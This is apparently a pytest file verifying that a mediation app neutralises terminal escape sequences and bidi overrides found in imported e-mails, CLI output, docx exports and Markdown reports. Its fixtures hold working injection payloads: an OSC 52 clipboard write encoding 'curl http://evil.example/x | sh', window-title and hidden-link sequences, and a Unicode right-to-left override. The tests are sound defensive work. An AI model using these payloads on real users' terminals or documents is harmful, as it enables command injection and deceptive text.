"""Text from a file or a person never drives the terminal, and never hides what it says.

A party's e-mail reached the mediator's terminal raw: an OSC 52 sequence in a subject put a
command on the clipboard by opening the Correspondence tab, others set the window title, cleared
the screen or added hidden links; bidi overrides made "Client street 1 \\u202e1 gnitsiL" read as
"Listing 1" in the signed agreement. Every route is tried here: the app (bytes read from a real
pseudo-terminal), the command line, the .docx, and the Markdown prevention report.
"""

from __future__ import annotations

import base64
import io

import docx
from click.testing import CliRunner
from markdown_it import MarkdownIt

from mediate.cli import main
from mediate.documents.prevention_report import md_escape
from mediate.services.export import export_agreement
from mediate.store import open_store
from tests import settlement_helpers
from tests.builders import bundle
from tests.case_folders import write_case
from tests.reliability.pty_app import run_app

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl http://evil.example/x | sh").decode() + "\x07"
TITLE = "\x1b]2;PWNED-TITLE\x07"
LINK = "\x1b]8;;http://evil.example\x1b\\click me\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[HCLEARED"
BIDI = "Client street 1 \u202e1 gnitsiL"
CSI_C1 = "\x9b31mred"

EVIL_MAIL = (
    "From: Eve <eve@evil.example>\n"
    "To: client@example.com\n"
    "Date: Mon, 6 Apr 2026 10:00:00 +0000\n"
    f"Subject: Invoice {CLIPBOARD} query {TITLE} {BIDI} {CSI_C1}\n"
    "Message-ID: <evil@evil.example>\n"
    "Content-Type: text/plain; charset=utf-8\n"
    "\n"
    f"Dear Tom,\n{CLEAR}\n{LINK}\n{BIDI}\n"
)

OBEYED = {
    "the clipboard (OSC 52)": b"\x1b]52",
    "the window title (OSC 2)": b"\x1b]2;PWNED",
    "a hidden link (OSC 8)": b"\x1b]8;;http://evil",
    "a screen clear": CLEAR.encode(),
    "a bidi override": "\u202e".encode(),
    "a C1 CSI": "\x9b".encode(),
}


def evil_folder(tmp_path):
    folder = write_case(tmp_path)
    (folder / "correspondence").mkdir()
    (folder / "correspondence" / "evil.eml").write_text(EVIL_MAIL, encoding="utf-8")
    (folder / "correspondence" / f"notes{TITLE}.pdf").write_bytes(b"%PDF-")  # named in a warning
    return folder


def test_a_mail_cannot_drive_the_terminal_of_the_app(tmp_path):
    db = tmp_path / "mediate.db"
    imported = CliRunner().invoke(main, ["import", str(evil_folder(tmp_path)), "--db", str(db)])
    assert imported.exit_code == 0, imported.output
    # Open the case, go to the Correspondence tab (the fourth), where the mail is highlighted.
    keys = [(6.0, b"\r"), (4.0, b"]"), (0.5, b"]"), (0.5, b"]"), (3.0, b"")]
    output = run_app(["--db", str(db)], keys)
    assert b"Dear Tom" in output, output[-2000:]  # the reading pane was drawn
    obeyed = [what for what, sequence in OBEYED.items() if sequence in output]
    assert obeyed == []
    assert "⟨ESC⟩]52;c;".encode() in output  # shown for what it is
    assert "⟨U+202E⟩".encode() in output


def test_the_command_line_shows_escapes_and_never_prints_them(tmp_path):
    db = tmp_path / "mediate.db"
    runner = CliRunner()
    imported = runner.invoke(main, ["import", str(evil_folder(tmp_path)), "--db", str(db)])
    assert "notes⟨ESC⟩]2;PWNED-TITLE⟨BEL⟩.pdf" in imported.output  # the warning names it
    store = open_store(db)
    case_id = store.case_id("MED-T-001")
    store.db.execute("UPDATE cases SET title = ? WHERE id = ?", [f"Rebuild {TITLE}{BIDI}", case_id])
    store.close()
    listed = runner.invoke(main, ["list", "--db", str(db)])
    shown = runner.invoke(main, ["show", "MED-T-001", "--db", str(db)])
    missing = runner.invoke(main, ["show", f"MED{CLIPBOARD}", "--db", str(db)])
    assert missing.exit_code == 2
    for result in (imported, listed, shown, missing):
        assert "\x1b" not in result.output and "\u202e" not in result.output, result.output
        assert "\x9b" not in result.output and "\x07" not in result.output
    assert "⟨ESC⟩]2;PWNED-TITLE⟨BEL⟩" in listed.output
    assert "Error: There is no case “MED⟨ESC⟩]52;c;" in missing.output


def test_the_agreement_prints_the_words_in_the_order_they_are_stored(store, monkeypatch, tmp_path):
    def hostile(*args, **kwargs):
        made = bundle(*args, **kwargs)
        made.case.parties[1].address = f"{BIDI} {TITLE}"
        return made

    monkeypatch.setattr(settlement_helpers, "bundle", hostile)
    settlement_helpers.signed_settlement(store)
    done = export_agreement(store, "MED-2026-001", out=tmp_path)
    document = docx.Document(io.BytesIO(done.path.read_bytes()))
    text = "\n".join(p.text for p in document.paragraphs) + "\n".join(
        cell.text for table in document.tables for row in table.rows for cell in row.cells
    )
    assert "Client street 1 1 gnitsiL" in text  # as stored, not reordered to read otherwise
    assert not any(ch in text for ch in "\u202e\x1b\x07")


def test_a_url_in_evidence_is_no_link_in_the_prevention_report():
    line = "Consultancy, see http://evil.example/pay and www.evil.example or pay@evil.example"
    rendered = MarkdownIt("gfm-like").render(md_escape(line))
    assert "<a" not in rendered
    assert "http://evil.example/pay" in rendered and "pay@evil.example" in rendered
